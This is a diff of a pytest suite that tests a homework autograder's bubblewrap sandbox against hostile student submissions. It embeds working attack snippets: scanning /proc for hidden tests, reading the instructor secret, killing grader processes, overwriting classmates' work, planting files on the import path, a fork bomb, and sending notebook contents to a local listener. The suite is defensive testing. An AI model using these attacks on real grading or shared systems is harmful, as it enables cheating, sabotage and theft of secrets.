@@ -2,21 +2,33 @@
 
 For each assignment: the solution scores full marks, the untouched student notebook runs to the end
 and scores 0 everywhere, and nothing of the solutions or hidden tests reaches the student. For the
-first assignment, a batch of adversarial submissions (syntax error, exception, sys.exit / os._exit,
-endless loops, megabytes of output, deleting and overwriting grader files, monkeypatching numpy and
-otter) is graded together with a good submission, which keeps its full score.
+first assignment, one batch graded like `make grade` (each submission in its bubblewrap sandbox)
+holds two honest classmates and the adversarial submissions: syntax error, exception, sys.exit /
+os._exit, endless loops, megabytes of output, deleting grader files, monkeypatching numpy and otter,
+and every attack of issue 19 (reading the master notebook and hidden tests, killing other graders,
+overwriting a classmate's submission, a process that rewrites the gradebook after grading, a forged
+report, writing into the repository, unbounded memory and processes, the network, the instructor's
+environment and other students' files, a process holding the output pipes, a worker death during a
+test). Each attack has its own test; the honest classmates keep full marks in every one.
 """
 
 from __future__ import annotations
 
 import base64
 import importlib.util
+import hashlib
 import io
 import json
+import os
 import re
+import secrets
 import shutil
+import socket
 import subprocess
 import sys
+import tempfile
+import threading
+import time
 import zipfile
 from pathlib import Path
 
@@ -33,7 +45,7 @@ from homework_worker import decode, encode  # noqa: E402  (scripts/ is on sys.pa
 
 ASSIGNMENTS = hw.discover()
 FIRST = "ch01_generative_discriminative"
-LIMITS = hw.Limits(total=150, cell=20, call=20)
+LIMITS = hw.Limits(total=100, cell=10, call=10)  # CPU seconds; wall-clock backstops 3x
 
 
 # ----------------------------------------------------------------------------------------------------
@@ -171,7 +183,296 @@ grader = type("FakeGrader", (), {"check": lambda self, q: None, "check_all": lam
 '''
 
 
-def _adversarial(solution: bytes, student: bytes) -> dict[str, tuple[bytes, dict]]:
+# ----------------------------------------------------------------------------------------------------
+# Attacks of a hostile student (issue 19), each graded in the same batch as honest classmates. Every
+# attack that could hurt the machine if the sandbox failed is narrowed to the grader's own processes
+# and files (and a fork bomb is capped), and the tests restore anything an attack managed to change.
+# ----------------------------------------------------------------------------------------------------
+
+TOKEN = secrets.token_hex(8)
+SECRET = f"instructor-secret-{TOKEN}"
+CLASSMATE = f"classmate-marker-{TOKEN}"
+LINGER = f"hw-linger-{TOKEN}"
+PLANTED = [REPO / "scripts" / "sklearn" / "__init__.py", REPO / "scripts" / "otter" / "__init__.py",
+           REPO / "scripts" / "__pycache__" / f"homework_worker.cpython-{sys.version_info.major}{sys.version_info.minor}.pyc",
+           REPO / "scripts" / "__pycache__" / f"homework.cpython-{sys.version_info.major}{sys.version_info.minor}.pyc",
+           REPO / "lectures_utils" / "sitecustomize.py"]
+
+# Reads the master notebook / hidden tests if it can find them anywhere, and copies the solutions.
+ATTACK_STEAL = r'''
+import json, os, zipfile
+HIDDEN, SOLVED = "hidden" + "=True", "BEGIN " + "SOLUTION"
+own = os.path.abspath("reads_hidden_tests.ipynb")
+roots = [os.path.dirname(os.getcwd()), {repo!r}, {work!r}, {build!r}, "/proc/1/cwd", "/proc/1/root", "/"]
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        for link in ("cwd", "root", "exe"):
+            try:
+                roots.append(os.path.dirname(os.readlink(f"/proc/{{pid}}/{{link}}")))
+            except OSError:
+                pass
+found, dirs = [], 0
+for root in roots:
+    for dirpath, dirnames, filenames in os.walk(root):
+        dirs += 1
+        dirnames[:] = [d for d in dirnames if d not in ("site-packages", "proc", "sys", "dev", "usr", "include")]
+        for name in filenames:
+            path = os.path.join(dirpath, name)
+            if path == own or not name.endswith((".ipynb", ".zip", ".py")):
+                continue
+            if name.endswith(".py") and os.path.basename(dirpath) != "tests":
+                continue
+            try:
+                if name.endswith(".zip"):
+                    with zipfile.ZipFile(path) as archive:
+                        text = " ".join(archive.read(n).decode("utf-8", "replace") for n in archive.namelist()
+                                        if n.startswith("tests/"))
+                else:
+                    text = open(path, encoding="utf-8", errors="replace").read()
+            except Exception:
+                continue
+            if HIDDEN in text or SOLVED in text:
+                found.append(path)
+        if dirs > 30000:
+            break
+if found:
+    print("LEAK-FOUND", found)
+for path in found:
+    if path.endswith(".ipynb"):
+        cells = json.load(open(path))["cells"]
+        for cell in cells:
+            if cell["cell_type"] == "code":
+                try:
+                    exec("".join(cell["source"]), globals())
+                except BaseException:
+                    pass
+'''
+
+# Kills every grader and worker process it can see (not kill(-1): on a broken sandbox that would be
+# every process of the machine).
+ATTACK_KILL = r'''
+import os, signal
+me, killed = os.getpid(), []
+for pid in os.listdir("/proc"):
+    if not pid.isdigit() or int(pid) in (me, 1):
+        continue
+    try:
+        cmdline = open(f"/proc/{pid}/cmdline", "rb").read()
+    except OSError:
+        continue
+    if b"homework" in cmdline or b"pytest" in cmdline:
+        for kill in (lambda: os.kill(int(pid), signal.SIGKILL), lambda: os.killpg(os.getpgid(int(pid)), signal.SIGKILL)):
+            try:
+                kill()
+                killed.append(pid)
+            except OSError:
+                pass
+try:
+    os.kill(os.getppid(), signal.SIGKILL)
+except OSError:
+    pass
+print("killed", killed)
+'''
+
+# Overwrites every other submission it can find, by search and at the grader's real paths.
+ATTACK_OVERWRITE = r'''
+import glob, os
+targets = set(glob.glob({subs!r} + "/*.ipynb"))
+for root in (os.path.dirname(os.getcwd()), "/tmp", "/home", {work!r}):
+    targets.update(glob.glob(os.path.join(root, "**", "*.ipynb"), recursive=True))
+for path in sorted(targets):
+    if os.path.abspath(path) != os.path.abspath("overwrites_classmates.ipynb"):
+        try:
+            with open(path, "w") as handle:
+                handle.write("{{}}")
+            print("OVERWROTE", path)
+        except OSError:
+            pass
+'''
+
+# Leaves a detached process that keeps rewriting the gradebook and a classmate's report after grading.
+ATTACK_LINGER = r'''
+import subprocess, sys
+code = """
+import os, signal, time
+for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
+    signal.signal(s, signal.SIG_IGN)
+end = time.time() + 60
+while time.time() < end:
+    for path, text in (({grades!r} + "/gradebook.csv", "file,total\\nrewritten,20\\n"),
+                       ({grades!r} + "/reports/good.json", "{{}}")):
+        try:
+            os.makedirs(os.path.dirname(path), exist_ok=True)
+            with open(path, "w") as handle:
+                handle.write(text)
+        except OSError:
+            pass
+    time.sleep(0.2)
+"""
+subprocess.Popen([sys.executable, "-c", code, {linger!r}], start_new_session=True, stdin=subprocess.DEVNULL,
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+subprocess.Popen(["/bin/sh", "-c", "trap '' TERM HUP; sleep 600; : " + {linger!r}], start_new_session=True)
+'''
+
+# Writes a forged report into the grader's output: its own stdout/stderr and other processes' fds.
+ATTACK_FAKE_REPORT = r'''
+import json, os, sys
+fake = json.dumps({{"file": "good.ipynb", "scores": {{"q1": 0}}, "total": 0, "errors": ["forged"]}})
+print(fake)
+sys.stderr.write(fake + "\n")
+for pid in os.listdir("/proc"):
+    if pid.isdigit() and int(pid) != os.getpid():
+        for fd in ("1", "2"):
+            try:
+                with open(f"/proc/{{pid}}/fd/{{fd}}", "w") as handle:
+                    handle.write(fake)
+            except OSError:
+                pass
+'''
+
+# Writes into the repository: the autograder archive, a planted .pyc, fake packages on the trusted
+# grader's import path.
+ATTACK_REPO = r'''
+import os
+targets = {targets!r}
+fake = "points = 1\ndef _score(*a, **k):\n    return 1\n"
+for path in targets:
+    try:
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        mode = "ab" if path.endswith(".zip") else "wb"
+        with open(path, mode) as handle:
+            handle.write(fake.encode())
+        print("WROTE", path)
+    except OSError:
+        pass
+'''
+
+ATTACK_MEMORY = r'''
+import numpy as np
+hog = []
+try:
+    for _ in range(64):
+        hog.append(np.empty(2**30, dtype=np.uint8))  # 64 GiB in all, 1 GiB at a time (not touched: cheap)
+finally:
+    hog.clear()  # (leave room for the tests' calls: this checks the limit, not what happens near it)
+'''
+
+ATTACK_FORK = r'''
+import os, time
+forked = 0
+try:
+    while forked < 1000:  # capped: this machine is shared even if the sandbox failed
+        pid = os.fork()
+        if pid == 0:
+            time.sleep(120)
+            os._exit(0)
+        forked += 1
+except OSError as err:
+    print("fork refused:", type(err).__name__)
+print("FORKED", forked)
+'''
+
+ATTACK_NETWORK = r'''
+import socket
+stolen = b"hidden tests: " + open("network.ipynb", "rb").read()[:200]
+for host in {hosts!r}:
+    try:
+        with socket.create_connection((host, {port}), timeout=2) as conn:
+            conn.sendall(stolen)
+            print("NET-CONNECTED", host)
+    except OSError as err:
+        print("no connection to", host, type(err).__name__)
+try:
+    print("NET-RESOLVED", socket.getaddrinfo("pypi.org", 443))
+except OSError as err:
+    print("no DNS", type(err).__name__)
+'''
+
+ATTACK_SNOOP = r'''
+import os
+secret_prefix, marker = "instructor-" + "secret-", "classmate-" + "marker-"
+for key, value in os.environ.items():
+    if secret_prefix in value:
+        print("LEAK-ENV", key, value)
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        try:
+            data = open(f"/proc/{{pid}}/environ", "rb").read().decode("utf-8", "replace")
+        except OSError:
+            continue
+        if secret_prefix in data:
+            print("LEAK-PROC-ENV", pid, data[data.index(secret_prefix):][:60])
+own = os.path.abspath("reads_environment.ipynb")
+for root in ("/tmp", "/home", os.path.dirname(os.getcwd()), {work!r}, {tmp!r}):
+    for dirpath, dirnames, filenames in os.walk(root):
+        for name in filenames:
+            path = os.path.join(dirpath, name)
+            try:
+                if path != own and marker in open(path, encoding="utf-8", errors="replace").read():
+                    print("LEAK-CLASSMATE", path)
+            except OSError:
+                pass
+'''
+
+# A forked process that keeps the worker's output pipes and the protocol pipes open, ignoring signals.
+ATTACK_HANG = r'''
+import os, signal, time
+if os.fork() == 0:
+    os.setsid()
+    for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
+        signal.signal(s, signal.SIG_IGN)
+    while True:
+        time.sleep(1)
+'''
+
+ATTACK_DIE_IN_TEST = r'''
+import os
+def gnb_fit(X, y):
+    os._exit(7)  # the worker dies whenever a test calls this
+'''
+
+
+def _listener():
+    """A TCP server on every host address the sandbox could try; records connections."""
+    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    server.bind(("0.0.0.0", 0))
+    server.listen(8)
+    server.settimeout(0.5)
+    connections: list = []
+    stop = threading.Event()
+
+    def serve():
+        while not stop.is_set():
+            try:
+                conn, address = server.accept()
+            except OSError:
+                continue
+            connections.append(address)
+            conn.close()
+
+    threading.Thread(target=serve, daemon=True).start()
+    hosts = ["127.0.0.1"]
+    try:
+        hosts += sorted({info[4][0] for info in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET)})
+    except OSError:
+        pass
+    return server, hosts, connections, stop
+
+
+def _linger_processes() -> list[int]:
+    found = []
+    for entry in Path("/proc").iterdir():
+        if entry.name.isdigit():
+            try:
+                if LINGER.encode() in (entry / "cmdline").read_bytes():
+                    found.append(int(entry.name))
+            except OSError:
+                pass
+    return found
+
+
+def _adversarial(solution: bytes, student: bytes, ctx: dict) -> dict[str, tuple[bytes, dict]]:
     """name -> (notebook, expected scores); None in expected means 'full marks'."""
 
     def syntax(cells):
@@ -195,40 +496,111 @@ def _adversarial(solution: bytes, student: bytes) -> dict[str, tuple[bytes, dict
         cells.insert(2, _code("import sys\nprint('x' * 30_000_000)\nfor _ in range(200):\n"
                               "    sys.stderr.write('y' * 100_000)"))
 
-    def files(cells):
-        cells.append(_code(ATTACK_FILES))
+    def appended(source):
+        return lambda cells: cells.append(_code(source))
 
-    def patches(cells):
-        cells.append(_code(ATTACK_PATCH))
+    def honest(cells):  # a classmate: carries a marker that a snooping submission must not find
+        cells.append(_code(f"classmate_marker = {CLASSMATE!r}"))
 
+    def slow(cells):  # honest but slow: waits longer than the CPU limit of a cell (e.g. a loaded machine)
+        cells.insert(2, _code(f"import time\ntime.sleep({1.5 * LIMITS.cell})"))
+        honest(cells)
+
+    paths = {"repo": str(REPO), "work": str(ctx["work"]), "build": str(ctx["build"]), "subs": str(ctx["subs"]),
+             "grades": str(ctx["grades"]), "linger": LINGER, "tmp": tempfile.gettempdir(),
+             "targets": [str(ctx["zip"])] + [str(p) for p in PLANTED], "hosts": ctx["hosts"], "port": ctx["port"]}
+    fill = lambda template: template.format(**paths)  # noqa: E731
     full = None
     return {
-        "good.ipynb": (solution, full),
+        "good.ipynb": (_notebook_with(solution, honest), full),
+        "honest_slow.ipynb": (_notebook_with(solution, slow), full),
         "blank.ipynb": (student, "zero"),
         "syntax_error.ipynb": (_notebook_with(solution, syntax), {"q1": 0.0}),
         "raises.ipynb": (_notebook_with(solution, raises), full),
         "sys_exit.ipynb": (_notebook_with(solution, exits), full),
         "endless_loop.ipynb": (_notebook_with(solution, loops), full),
         "prints_megabytes.ipynb": (_notebook_with(solution, prints), full),
-        "deletes_files.ipynb": (_notebook_with(student, files), "zero"),
-        "monkeypatches.ipynb": (_notebook_with(student, patches), "zero"),
+        "deletes_files.ipynb": (_notebook_with(student, appended(ATTACK_FILES)), "zero"),
+        "monkeypatches.ipynb": (_notebook_with(student, appended(ATTACK_PATCH)), "zero"),
         "not_a_notebook.ipynb": (b"{ this is not json", "zero"),
+        "reads_hidden_tests.ipynb": (_notebook_with(student, appended(fill(ATTACK_STEAL))), "zero"),
+        "kills_classmates.ipynb": (_notebook_with(solution, appended(ATTACK_KILL)), full),
+        "overwrites_classmates.ipynb": (_notebook_with(student, appended(fill(ATTACK_OVERWRITE))), "zero"),
+        "rewrites_gradebook_later.ipynb": (_notebook_with(student, appended(fill(ATTACK_LINGER))), "zero"),
+        "fake_report.ipynb": (_notebook_with(student, appended(fill(ATTACK_FAKE_REPORT))), "zero"),
+        "writes_into_repo.ipynb": (_notebook_with(student, appended(fill(ATTACK_REPO))), "zero"),
+        "memory_hog.ipynb": (_notebook_with(solution, appended(ATTACK_MEMORY)), full),
+        "fork_bomb.ipynb": (_notebook_with(solution, appended(ATTACK_FORK)), full),
+        "network.ipynb": (_notebook_with(student, appended(fill(ATTACK_NETWORK))), "zero"),
+        "reads_environment.ipynb": (_notebook_with(student, appended(fill(ATTACK_SNOOP))), "zero"),
+        "hangs_output.ipynb": (_notebook_with(solution, appended(ATTACK_HANG)), full),
+        "dies_during_test.ipynb": (_notebook_with(solution, appended(ATTACK_DIE_IN_TEST)), {"q1": 0.0}),
     }
 
 
+HONEST = ("good.ipynb", "honest_slow.ipynb")
+
+
 @pytest.fixture(scope="session")
-def graded(generated, tmp_path_factory):
-    """Grade, per assignment, one batch: solution + blank (+ the adversarial set for the first one)."""
-    results = {}
+def attack_batch(generated, tmp_path_factory):
+    """The first assignment's adversarial batch, graded like `make grade` does: submissions in a
+    folder, the instructor's secret in the environment, a listening server, the gradebook written."""
+    if not hw.sandbox_status()[0]:
+        pytest.fail(f"no sandbox on this machine: {hw.sandbox_status()[1]} (CI installs bubblewrap: make sandbox)")
+    art = generated[FIRST]
+    work = tmp_path_factory.mktemp(f"grading-{FIRST}")
+    decoy = work / "decoy-autograder"  # what a naive grader would have lying around
+    shutil.copytree(art["target"] / "autograder", decoy)
+    zip_path = art["target"] / "autograder" / "autograder.zip"
+    server, hosts, connections, stop = _listener()
+    ctx = {"work": work, "build": art["target"].parent, "subs": work / "submissions", "grades": work / "grades",
+           "zip": zip_path, "hosts": hosts, "port": server.getsockname()[1]}
+    batch = _adversarial(art["solution"], art["student"], ctx)
+    ctx["subs"].mkdir()
+    for name, (data, _) in batch.items():
+        (ctx["subs"] / name).write_bytes(data)
+    before = {p.name: p.read_bytes() for p in ctx["subs"].iterdir()}
+    zip_before = zip_path.read_bytes()
+    planted_before = {p: p.read_bytes() if p.exists() else None for p in PLANTED}
+    os.environ["HW_INSTRUCTOR_TOKEN"] = SECRET
+    started = time.monotonic()
+    try:
+        reports = hw.grade_batch(sorted(ctx["subs"].glob("*.ipynb")), art["autograder"], LIMITS, work_dir=work)
+        batch_wall = time.monotonic() - started
+        gradebook = hw.write_gradebook(reports, ctx["grades"])
+        written = gradebook.read_bytes()
+        time.sleep(1.5)  # a lingering process would rewrite it now
+    finally:
+        del os.environ["HW_INSTRUCTOR_TOKEN"]
+        stop.set()
+        server.close()
+        planted_after = {}
+        for path, old in planted_before.items():  # undo anything an attack managed to write into the repo
+            planted_after[path] = path.read_bytes() if path.exists() else None
+            if planted_after[path] != old:
+                if old is None:
+                    path.unlink()
+                    if not any(path.parent.iterdir()):
+                        path.parent.rmdir()
+                else:
+                    path.write_bytes(old)
+    return {"reports": {r["file"]: r for r in reports}, "expected": {k: v[1] for k, v in batch.items()},
+            "ctx": ctx, "before": before, "after": {p.name: p.read_bytes() for p in ctx["subs"].iterdir()},
+            "zip_changed": zip_path.read_bytes() != zip_before, "planted": {
+                str(p): planted_after[p] != planted_before[p] for p in PLANTED},
+            "gradebook_written": written, "gradebook_later": gradebook.read_bytes(),
+            "connections": list(connections), "lingering": _linger_processes(), "batch_wall": batch_wall}
+
+
+@pytest.fixture(scope="session")
+def graded(generated, attack_batch, tmp_path_factory):
+    """Grade, per assignment, one batch: solution + blank (the adversarial batch for the first one)."""
+    results = {FIRST: (attack_batch["reports"], attack_batch["expected"])}
     for name, art in generated.items():
-        work = tmp_path_factory.mktemp(f"grading-{name}")
         if name == FIRST:
-            batch = _adversarial(art["solution"], art["student"])
-            # decoys a naive grader would have lying around, for the file attack to find
-            decoy = work / "decoy-autograder"
-            shutil.copytree(art["target"] / "autograder", decoy)
-        else:
-            batch = {"good.ipynb": (art["solution"], None), "blank.ipynb": (art["student"], "zero")}
+            continue
+        work = tmp_path_factory.mktemp(f"grading-{name}")
+        batch = {"good.ipynb": (art["solution"], None), "blank.ipynb": (art["student"], "zero")}
         reports = hw.grade_batch({k: v[0] for k, v in batch.items()}, art["autograder"], LIMITS, work_dir=work)
         results[name] = ({r["file"]: r for r in reports}, {k: v[1] for k, v in batch.items()})
     return results
@@ -359,8 +731,9 @@ def test_ch06_domain_shift_experiment_makes_its_point(generated, tmp_path, monke
 
 @pytest.mark.slow
 @pytest.mark.parametrize("submission", [
-    "good.ipynb", "syntax_error.ipynb", "raises.ipynb", "sys_exit.ipynb", "endless_loop.ipynb",
-    "prints_megabytes.ipynb", "deletes_files.ipynb", "monkeypatches.ipynb", "not_a_notebook.ipynb"])
+    "good.ipynb", "honest_slow.ipynb", "syntax_error.ipynb", "raises.ipynb", "sys_exit.ipynb",
+    "endless_loop.ipynb", "prints_megabytes.ipynb", "deletes_files.ipynb", "monkeypatches.ipynb",
+    "not_a_notebook.ipynb"])
 def test_adversarial_submission_graded_as_expected(graded, submission):
     reports, expected = graded[FIRST]
     report = reports[submission]
@@ -409,3 +782,168 @@ def test_otter_run_accepts_the_generated_autograder(generated, tmp_path):
     scored = [t for t in results["tests"] if "max_score" in t]  # otter adds a "Public Tests" summary row
     assert [t["name"] for t in scored] == list(art["autograder"]["tests"])
     assert sum(t["score"] for t in scored) == sum(t["max_score"] for t in scored) == 20
+
+
+# ----------------------------------------------------------------------------------------------------
+# the sandbox (issue 19): each attack of a hostile student, graded with honest classmates in one batch
+# ----------------------------------------------------------------------------------------------------
+
+def _assert_scored(attack_batch, submission):
+    report = attack_batch["reports"][submission]
+    expected = attack_batch["expected"][submission]
+    want = dict(report["possible"])
+    if expected == "zero":
+        want = {q: 0.0 for q in want}
+    elif expected:
+        want.update(expected)
+    assert report["scores"] == want, (submission, report["scores"], report["errors"], report["output_head"][-2000:])
+    assert report["sandbox"] == "bubblewrap"
+    for name in HONEST:  # the honest classmates of the same batch keep full marks and a clean row
+        honest = attack_batch["reports"][name]
+        assert honest["total"] == honest["max_total"] and not honest["errors"], (name, honest["errors"])
+    return report
+
+
+@pytest.mark.slow
+def test_attack_cannot_read_master_notebook_or_hidden_tests(attack_batch):
+    print(f"adversarial batch: {len(attack_batch['reports'])} submissions in {attack_batch['batch_wall']:.1f} s; "
+          + ", ".join(f"{k}: {r['wall_s']} s wall / {r['cpu_s']} s CPU" for k, r in attack_batch["reports"].items()))
+    report = _assert_scored(attack_batch, "reads_hidden_tests.ipynb")
+    assert "LEAK-FOUND" not in report["output_head"], report["output_head"][:2000]
+
+
+@pytest.mark.slow
+def test_attack_cannot_kill_classmates_or_graders(attack_batch):
+    report = _assert_scored(attack_batch, "kills_classmates.ipynb")  # it keeps its own answers, nothing else
+    assert "killed" in report["output_head"]
+    assert len(attack_batch["reports"]) == len(attack_batch["expected"])
+
+
+@pytest.mark.slow
+def test_attack_cannot_overwrite_a_classmates_submission(attack_batch):
+    report = _assert_scored(attack_batch, "overwrites_classmates.ipynb")
+    assert "OVERWROTE" not in report["output_head"]
+    assert attack_batch["after"] == attack_batch["before"]
+
+
+@pytest.mark.slow
+def test_attack_cannot_leave_a_process_that_rewrites_the_gradebook(attack_batch):
+    _assert_scored(attack_batch, "rewrites_gradebook_later.ipynb")
+    assert attack_batch["lingering"] == [], "a process of a submission outlived its grading"
+    assert attack_batch["gradebook_later"] == attack_batch["gradebook_written"]
+    good = json.loads((attack_batch["ctx"]["grades"] / "reports" / "good.json").read_text(encoding="utf-8"))
+    assert good["total"] == good["max_total"]
+
+
+@pytest.mark.slow
+def test_attack_cannot_forge_the_graders_report(attack_batch):
+    report = _assert_scored(attack_batch, "fake_report.ipynb")
+    assert report["file"] == "fake_report.ipynb"
+    rows = attack_batch["gradebook_written"].decode("utf-8").splitlines()
+    assert len(rows) == 1 + len(attack_batch["expected"])
+    assert sum(row.startswith("good.ipynb,") for row in rows) == 1 and "forged" not in rows[0] + "".join(rows)
+
+
+@pytest.mark.slow
+def test_attack_cannot_write_into_the_repository(attack_batch):
+    report = _assert_scored(attack_batch, "writes_into_repo.ipynb")
+    assert f"WROTE {REPO}" not in report["output_head"], report["output_head"][:2000]  # (its private /tmp is writable)
+    assert not attack_batch["zip_changed"], "the autograder archive was modified"
+    assert not any(attack_batch["planted"].values()), attack_batch["planted"]
+
+
+@pytest.mark.slow
+def test_attack_memory_is_limited(attack_batch):
+    report = _assert_scored(attack_batch, "memory_hog.ipynb")
+    assert any(c["status"] == "error" and "MemoryError" in c["error"] for c in report["cells"]), report["cells"]
+
+
+@pytest.mark.slow
+def test_attack_number_of_processes_is_limited(attack_batch):
+    report = _assert_scored(attack_batch, "fork_bomb.ipynb")
+    forked = int(re.search(r"FORKED (\d+)", report["output_head"]).group(1))
+    assert forked < LIMITS.processes, forked
+
+
+@pytest.mark.slow
+def test_attack_has_no_network(attack_batch):
+    report = _assert_scored(attack_batch, "network.ipynb")
+    assert attack_batch["connections"] == []
+    assert "NET-CONNECTED" not in report["output_head"] and "NET-RESOLVED" not in report["output_head"]
+    assert "no connection to 127.0.0.1" in report["output_head"]
+
+
+@pytest.mark.slow
+def test_attack_cannot_read_instructor_environment_or_classmates_files(attack_batch):
+    report = _assert_scored(attack_batch, "reads_environment.ipynb")
+    for other in attack_batch["reports"].values():
+        assert SECRET not in json.dumps(other), other["file"]
+    assert "LEAK-" not in report["output_head"], report["output_head"][:2000]
+    assert CLASSMATE not in report["output_head"]
+
+
+@pytest.mark.slow
+def test_attack_cannot_hang_the_batch_by_holding_the_output(attack_batch):
+    report = _assert_scored(attack_batch, "hangs_output.ipynb")
+    assert report["wall_s"] < 60, report["wall_s"]
+    assert attack_batch["lingering"] == []
+
+
+@pytest.mark.slow
+def test_worker_death_during_a_test_is_in_the_error_column(attack_batch):
+    report = _assert_scored(attack_batch, "dies_during_test.ipynb")
+    assert any(e.startswith("test q1: the worker ended the worker process") and "restarted" in e
+               for e in report["errors"]), report["errors"]
+    row = next(r for r in attack_batch["gradebook_written"].decode().splitlines() if r.startswith("dies_during_test"))
+    assert "test q1" in row
+
+
+@pytest.mark.slow
+def test_limits_are_cpu_time_so_a_slow_honest_submission_keeps_its_marks(attack_batch):
+    slow = attack_batch["reports"]["honest_slow.ipynb"]
+    assert slow["total"] == slow["max_total"] and not slow["errors"], slow["errors"]
+    assert slow["wall_s"] > 1.5 * LIMITS.cell  # it waited longer than a cell's CPU-time limit
+    spin = attack_batch["reports"]["endless_loop.ipynb"]
+    assert any(f"used more than {LIMITS.cell:g} s of CPU time" in e for e in spin["errors"]), spin["errors"]
+
+
+# fast checks of the trusted side ----------------------------------------------------------------------
+
+def test_tampered_autograder_archive_is_refused(tmp_path):
+    archive = tmp_path / "autograder.zip"
+    data = io.BytesIO()
+    with zipfile.ZipFile(data, "w") as out:
+        out.writestr("tests/q1.py", "from otter.test_files import test_case\nOK_FORMAT = False\nname = 'q1'\n")
+    archive.write_bytes(data.getvalue())
+    hw.autograder_hash_file(archive).write_text(hashlib.sha256(data.getvalue()).hexdigest() + "  autograder.zip\n")
+    assert hw.load_autograder(archive, require_hash=True)["sha256"] == hashlib.sha256(data.getvalue()).hexdigest()
+    archive.write_bytes(data.getvalue() + b"planted")
+    with pytest.raises(ValueError, match="changed since it was generated"):
+        hw.load_autograder(archive)
+    hw.autograder_hash_file(archive).unlink()
+    with pytest.raises(ValueError, match="no recorded hash"):
+        hw.load_autograder(archive, require_hash=True)
+
+
+def test_grading_refuses_without_a_sandbox_unless_told_it_is_unsafe(monkeypatch, tmp_path, capsys):
+    monkeypatch.setattr(hw, "sandbox_status", lambda: (False, "no namespaces in this test"))
+    autograder = {"tests": {"q1": "OK_FORMAT = False\nname = 'q1'\npoints = 1\n"}, "files": {}}
+    with pytest.raises(hw.SandboxUnavailable, match="--unsafe-no-sandbox"):
+        hw.grade_batch({"a.ipynb": b"{}"}, autograder)
+    (tmp_path / "a.ipynb").write_text("{ not json")
+    assert hw.main(["grade", FIRST, str(tmp_path)]) == 3
+    assert "refusing to grade" in capsys.readouterr().err
+    reports = hw.grade_batch({"a.ipynb": b"{ not json"}, autograder, unsafe_no_sandbox=True)
+    assert reports[0]["sandbox"] == "none (unsafe)" and "could not be read" in reports[0]["errors"][0]
+
+
+def test_trusted_side_environment_and_imports():
+    assert set(hw._trusted_env()) <= set(hw.TRUSTED_ENV_KEYS) | set(hw.COMMON_ENV)
+    worker_env = hw._worker_env(sandboxed=True, home=hw.SANDBOX_HOME)
+    assert "HW_INSTRUCTOR_TOKEN" not in worker_env and worker_env["HOME"] == hw.SANDBOX_HOME
+    sources = ["def test_a(f):\n    import numpy as np\n    from sklearn.naive_bayes import GaussianNB\n"]
+    assert hw._test_dependencies(sources) == ["numpy", "sklearn.naive_bayes"]
+    with pytest.raises(ValueError, match="wall_factor"):
+        hw.Limits(wall_factor=0.5)
+    with pytest.raises(ValueError, match="processes"):
+        hw.Limits(processes=2)
